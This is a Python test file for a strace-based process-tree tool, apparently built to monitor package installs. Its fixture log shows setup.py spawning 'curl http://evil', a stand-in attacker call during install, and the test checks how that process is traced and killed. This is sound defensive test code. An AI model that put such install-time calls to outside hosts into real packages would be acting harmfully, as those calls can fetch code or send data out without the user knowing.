"""Process tree rebuilt from parsed events."""

from __future__ import annotations

from osptrack.trace.strace import parse_log
from osptrack.trace.tree import build_tree, lineage, render, roots

LOG = """
100  1.00 execve("/usr/bin/sh", ["sh", "-c", "x"], []) = 0
100  1.01 vfork( <unfinished ...>
101  1.02 execve("/usr/bin/python3", ["python3", "setup.py"], [] <unfinished ...>
100  1.03 <... vfork resumed>) = 2 /* 101 in strace's PID NS */
101  1.04 <... execve resumed>) = 0
101  1.05 clone(child_stack=NULL, flags=SIGCHLD) = 3 /* 102 in strace's PID NS */
102  1.06 execve("/usr/bin/curl", ["curl", "http://evil"], []) = 0
102  1.07 +++ killed by SIGKILL +++
101  1.08 +++ exited with 1 +++
100  1.09 +++ exited with 0 +++
"""


def test_tree_links_commands_and_exits():
    tree = build_tree(parse_log(LOG.strip().split("\n"), "install"))
    assert roots(tree) == [100]
    assert tree[100].children == [101] and tree[101].children == [102]
    assert tree[102].ppid == 101 and tree[101].ppid == 100
    assert tree[101].commands == [["python3", "setup.py"]] and tree[101].exe == "/usr/bin/python3"
    assert tree[102].signal == "SIGKILL" and tree[101].exit_code == 1 and tree[100].exit_code == 0
    assert lineage(tree, 102) == [102, 101, 100]
    text = render(tree).splitlines()
    assert text[0].startswith("100 /usr/bin/sh sh -c x") and text[0].endswith("[exit 0]")
    assert text[2] == "    102 /usr/bin/curl curl http://evil [killed SIGKILL]"
